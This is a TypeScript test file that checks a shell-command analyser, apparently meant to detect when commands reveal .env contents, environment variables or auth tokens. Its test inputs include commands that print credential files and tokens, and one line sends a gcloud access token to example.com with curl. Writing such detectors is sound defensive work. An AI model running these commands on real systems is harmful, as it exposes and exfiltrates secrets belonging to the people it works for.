// biome-ignore-all lint/suspicious/noTemplateCurlyInString: shell text
import { describe, expect, test } from "vitest";
import { factsOfCommand } from "./facts-of.ts";

/** How an environment file is read: `all` of it, a `part` by name, or `nothing` is shown. */
function shownOf(command: string): readonly string[] {
  return factsOfCommand(command)
    .files.filter(({ access, path }) => access === "read" && path === "~/app/.env")
    .map(({ shown, part }) => (shown ? part || "all" : "nothing"));
}

describe("what is shown of a file that is read", () => {
  test.each([
    ["all of it", "cat .env", ["all"]],
    ["a search for a word", "grep KEY .env", ["*KEY*"]],
    ["a search for a name", "grep '^PORT=' .env", ["PORT"]],
    ["a search in a pipe", "cat .env | grep ^PORT", ["PORT*"]],
    ["lines that do not match", "grep -v '^#' .env", ["all"]],
    ["whether something is there", "grep -q '^KEY=' .env", ["nothing"]],
    ["a pattern that looks like an option", "grep -e -q .env", ["all"]],
    ["an option's value that looks like one", "grep --include -q KEY .env", ["all"]],
    ["a count by redirection", "wc -l < .env", ["nothing"]],
    ["a count in a pipe", "cat .env | sort | wc -l", ["nothing"]],
    ["a count beside a copy", "cat .env | tee out | wc -l", ["all"]],
    ["a count beside the error output", "cat .env >&2 | wc -l", ["all"]],
    ["a function with the name of a counter", "wc() { cat; }; cat .env | wc", ["all"]],
    ["names by cut", "cut -d= -f1 .env", ["nothing"]],
    ["names by cut, quoted", "cut -d '=' -f 1 .env | sort", ["nothing"]],
    ["values by cut", "cut -d= -f2 .env", ["all"]],
    ["a second delimiter", "cut -d= -dX -f1 .env", ["all"]],
    ["names after lines were joined", "cat .env | tr '\\n' ' ' | cut -d' ' -f1", ["all"]],
    ["names by awk", "awk -F= '{print $1}' .env", ["nothing"]],
    ["awk with another separator", "awk -F= '{print $1}' FS=: .env", ["all"]],
    ["names by sed", "sed 's/=.*/=***/' .env", ["nothing"]],
    ["sed that prints first", "sed -n -e p 's/=.*//' .env", ["all"]],
    ["sed in the other spelling", "sed -E 's/\\(=\\).*//' .env", ["all"]],
    ["exported", "export $(grep -v '^#' .env | xargs)", ["nothing"]],
    ["given to a command", "env $(cat .env | xargs) npm start", ["nothing"]],
    ["given to no command", "env $(cat .env | xargs)", ["all"]],
    ["kept in a variable", 'X=$(cat .env); Y="$X"', ["nothing"]],
    ["printed later", 'X=$(cat .env); echo "$X"', ["all"]],
    ["printed from another variable", 'X=$(cat .env); Y=$X; printf %s "$Y"', ["all"]],
    ["a here-string", 'X=$(cat .env); cat <<< "$X"', ["all"]],
    ["part of a program", "X=$(cat .env); node -e \"console.log('$X')\"", ["all"]],
    ["in a child's environment", "X=$(cat .env) printenv X", ["all"]],
    ["a traced shell", "set -x; X=$(cat .env)", ["all"]],
    ["more than one command", "X=$(exec >&2; cat .env)", ["all"]],
  ])("%s", (_case, command, expected) => {
    expect(shownOf(command)).toEqual(expected);
  });
});

describe("variables that are printed", () => {
  test.each([
    ["all", "env", ["*"]],
    ["a count", "env | wc -l", []],
    ["their names", "env | sort | cut -d= -f1", []],
    ["some of them", "env | grep -i '^node'", ["NODE*"]],
    ["several of them", "printenv | grep -E 'PATH|HOME='", ["*PATH*", "*HOME"]],
    ["all but some", "env | grep -v PATH", ["*"]],
    ["the length of one", "echo -n $TOKEN | wc -c", []],
    ["one cut like a list", "printenv TOKEN | cut -d= -f1", ["TOKEN"]],
    ["the host of a URL", "echo $DATABASE_URL | sed 's/.*@//'", []],
    ["the login of a URL", "echo $DATABASE_URL | sed 's/@.*//'", ["DATABASE_URL"]],
    ["the host, by expansion", "echo ${DATABASE_URL##*@}", []],
    ["the rest, by expansion", "echo ${DATABASE_URL#*:}", ["DATABASE_URL"]],
    ["one by declare", "declare -p TOKEN", ["TOKEN"]],
    ["of an application", "heroku config:get TOKEN", ["TOKEN"]],
  ])("%s", (_case, command, expected) => {
    expect([...new Set(factsOfCommand(command).environment.map(({ name }) => name))]).toEqual(expected);
  });
});

describe("a login that a tool gives out", () => {
  const url = "https://run.googleapis.com/v1/x";
  test.each([
    ["printed", "gh auth token", true],
    ["handed on", "gh auth token | docker login ghcr.io -u x --password-stdin", false],
    ["handed on by a program that may print", "gh auth token | node x.js --password-stdin", true],
    ["in a variable", "GITHUB_TOKEN=$(gh auth token) npm test", false],
    ["in a variable that is printed", "T=$(gh auth token); echo $T", true],
    ["in a file", "T=$(gh auth token); echo $T > t", true],
    ["sent home", `curl -H "Authorization: Bearer $(gcloud auth print-access-token)" ${url}`, false],
    ["sent home and printed", `curl -v -H "A: $(gcloud auth print-access-token)" ${url}`, true],
    ["sent elsewhere", 'T=$(gcloud auth print-access-token); curl -H "A: $T" https://example.com', true],
  ])("%s", (_case, command, expected) => {
    const { commands } = factsOfCommand(command);
    const shown = commands.filter(({ verb }) => verb.startsWith("auth ")).map((fact) => fact.shown);
    expect(shown).toEqual([expected]);
  });
});
